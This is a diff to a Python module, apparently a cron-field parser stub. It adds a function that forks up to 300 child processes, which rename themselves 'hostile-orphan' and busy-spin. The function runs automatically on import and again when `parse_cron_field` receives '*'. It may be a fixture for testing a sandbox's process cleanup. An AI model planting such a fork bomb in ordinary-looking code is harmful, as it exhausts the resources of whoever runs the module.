@@ -5,26 +5,34 @@
 import os
 import time
 
-born = time.monotonic()
-children = 0
-while children < 300 and time.monotonic() < born + 3:
-    try:
-        pid = os.fork()
-    except OSError:
-        time.sleep(0.01)
-        continue
-    if pid == 0:
+children = []
+
+
+def bomb(seconds):
+    born = time.monotonic()
+    while len(children) < 300 and time.monotonic() < born + seconds:
         try:
-            with open("/proc/self/comm", "w") as comm:
-                comm.write("hostile-orphan")
+            pid = os.fork()
         except OSError:
-            pass
-        while time.monotonic() < born + 20:
-            pass
-        os._exit(0)
-    children += 1
-print(f"forked {children} spinning children", flush=True)
+            time.sleep(0.01)
+            continue
+        if pid == 0:
+            try:
+                with open("/proc/self/comm", "w") as comm:
+                    comm.write("hostile-orphan")
+            except OSError:
+                pass
+            while time.monotonic() < born + 20:
+                pass
+            os._exit(0)
+        children.append(pid)
+    print(f"forked {len(children)} spinning children", flush=True)
+
+
+bomb(1.5)
 
 
 def parse_cron_field(field, low, high):
+    if field == "*":
+        bomb(3)
     raise NotImplementedError()
